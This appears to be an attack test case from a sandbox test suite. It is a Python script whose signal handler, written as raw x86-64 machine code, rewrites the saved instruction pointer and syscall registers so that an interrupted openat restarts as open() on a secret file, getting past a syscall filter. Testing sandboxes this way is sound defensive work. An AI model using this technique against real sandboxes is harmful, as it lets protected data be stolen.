# SPDX-License-Identifier: Apache-2.0
# attack: without SA_RESTART: the handler moves the instruction pointer back and sets another call number
# class: restart
# wins: leak
from kit import *

bad = ctypes.create_string_buffer(os.fsencode(SECRET))
fifo = os.fsencode(BOX + '/fifo')
# in ucontext: rip at 40+8*16=168, rax at 40+8*13=144, rdi at 104, rsi at 112, rdx at 136
h = code('48836aa800'[:0] + '4883aaa800000002' + '48c78290000000' + struct.pack('<I', NR['open']).hex() +
         '48b8' + struct.pack('<Q', address(bad)).hex() + '48894268' + '48c7427000000000' + 'c3')
sigaction(14, h, 4)
tried()
for i in range(20):
    signal.setitimer(signal.ITIMER_REAL, 0.02)
    fd = sc('openat', AT_FDCWD, fifo, 0, 0)
    if fd >= 0:
        took(fd)
